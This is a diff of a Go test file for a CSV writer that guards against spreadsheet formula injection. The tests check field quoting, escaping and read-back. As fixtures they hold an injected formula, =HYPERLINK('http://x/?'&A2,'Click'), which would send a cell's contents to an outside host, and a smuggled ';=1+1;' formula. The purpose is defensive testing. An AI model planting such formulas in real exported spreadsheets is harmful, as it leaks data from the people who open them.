@@ -1,6 +1,8 @@
 package csvsafe
 
 import (
+	"encoding/csv"
+	"fmt"
 	"strings"
 	"testing"
 )
@@ -44,12 +46,43 @@ func TestWriterEscapesUnlessRaw(t *testing.T) {
 		if err := w.Error(); err != nil {
 			t.Fatal(err)
 		}
-		want := "note,n\n\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\",1\n"
+		want := "\"note\",\"n\"\n\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\",\"1\"\n"
 		if raw {
-			want = "note,n\n\"=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\",1\n"
+			want = "\"note\",\"n\"\n\"=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Click\"\")\",\"1\"\n"
 		}
 		if b.String() != want {
 			t.Errorf("raw=%v: got %q, want %q", raw, b.String(), want)
 		}
+	}
+}
+
+// Every field is quoted, so a spreadsheet that splits on semicolons keeps
+// a note ";=1+1;" in one cell; encoding/csv reads every record back as
+// written.
+func TestEveryFieldIsQuotedAndReadsBack(t *testing.T) {
+	rows := [][]string{{"name", "note", "empty", "number"}, {"Ana", ";=1+1;", "", "+12025550142"}, {"Bo \"B\"", "line\nbreak", "a,b", "3"}}
+	var b strings.Builder
+	w := NewWriter(&b, false)
+	for _, r := range rows {
+		w.Write(r)
+	}
+	w.Flush()
+	for i, line := range strings.Split(strings.TrimSuffix(b.String(), "\n"), "\n")[:2] {
+		for _, field := range strings.Split(line, ",") {
+			if !strings.HasPrefix(field, `"`) || !strings.HasSuffix(field, `"`) {
+				t.Errorf("line %d: field %s is not quoted", i+1, field)
+			}
+		}
+	}
+	if !strings.Contains(b.String(), `";=1+1;"`) {
+		t.Errorf("the note is not one quoted, escaped cell:\n%s", b.String())
+	}
+	got, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := [][]string{rows[0], rows[1], rows[2]}
+	if fmt.Sprint(got) != fmt.Sprint(want) {
+		t.Errorf("read back %q, want %q", got, want)
 	}
 }
